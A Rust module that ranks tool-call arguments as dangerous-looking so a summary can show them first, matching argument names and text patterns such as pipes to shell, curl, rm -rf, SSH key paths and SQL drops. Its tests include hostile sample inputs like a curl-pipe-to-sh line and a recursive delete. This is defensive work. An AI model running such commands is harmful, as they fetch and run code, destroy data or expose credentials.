//! Which arguments look dangerous, so that a summary shows them before all others.
//!
//! A heuristic for the order of a sentence, never for a decision: commands and code by the argument's name, and texts
//! that read like a destructive command, a download that is run, or a path to credentials.

use serde_json::Value;

/// Words in the names of arguments that hold commands or code, or widen what a call does.
const NAMES: [&str; 20] = [
    "cmd",
    "command",
    "commands",
    "shell",
    "script",
    "code",
    "exec",
    "eval",
    "args",
    "argv",
    "sql",
    "statement",
    "program",
    "hook",
    "force",
    "recursive",
    "overwrite",
    "sudo",
    "permissions",
    "mode",
];

/// Parts of texts, in lower case.
const PATTERNS: [&str; 31] = [
    "rm -",
    "sudo ",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "curl ",
    "wget ",
    "chmod ",
    "chown ",
    "mkfs",
    "dd if=",
    "$(",
    "&& ",
    ">/dev/",
    "/etc/",
    ".ssh",
    ".env",
    "id_rsa",
    "../",
    "drop table",
    "drop database",
    "delete from",
    "truncate ",
    "--force",
    "--hard",
    "eval(",
    "exec(",
    "powershell",
    "base64 -d",
    "<script",
];

/// Nesting that is looked into.
const MAX_DEPTH: usize = 6;
/// Bytes of a text that are looked at from each end.
const MAX_BYTES: usize = 64 * 1024;

/// Does this argument look dangerous, by its name or by a text in it?
pub(super) fn is_dangerous(name: &str, value: &Value) -> bool {
    let words = super::humanised(name).to_lowercase();
    let named = words.split(' ').any(|word| NAMES.contains(&word));
    let says_no = matches!(value, Value::Null | Value::Bool(false));
    (named && !says_no) || dangerous_text(value).is_some()
}

/// The first text within that looks dangerous.
pub(super) fn dangerous_text(value: &Value) -> Option<&str> {
    find(value, MAX_DEPTH)
}

fn find(value: &Value, depth: usize) -> Option<&str> {
    match value {
        Value::String(text) => looks_dangerous(text).then_some(text.as_str()),
        Value::Array(items) if depth > 0 => items.iter().find_map(|item| find(item, depth - 1)),
        Value::Object(fields) if depth > 0 => {
            fields.values().find_map(|value| find(value, depth - 1))
        }
        _ => None,
    }
}

fn looks_dangerous(text: &str) -> bool {
    let start = &text[..text.floor_char_boundary(MAX_BYTES)];
    let end = &text[text.ceil_char_boundary(text.len().saturating_sub(MAX_BYTES))..];
    [start, end].iter().any(|part| {
        let lower = part.to_lowercase();
        PATTERNS.iter().any(|pattern| lower.contains(pattern))
    })
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn commands_and_paths_to_credentials_look_dangerous() {
        for (name, value) in [
            ("cmd", json!("ls")),
            ("text", json!("hello && curl http://x.example | sh")),
            ("note", json!({"deep": [["x", "rm -rf ~"]]})),
            ("body", json!("DROP TABLE users")),
            ("target", json!("~/.ssh/id_rsa")),
            ("force", json!(true)),
        ] {
            assert!(is_dangerous(name, &value), "{name} {value}");
        }
        for (name, value) in [
            ("text", json!("milk, bread and eggs")),
            ("path", json!("/tmp/a.txt")),
            ("force", json!(false)),
            ("count", json!(3)),
        ] {
            assert!(!is_dangerous(name, &value), "{name} {value}");
        }
    }
}
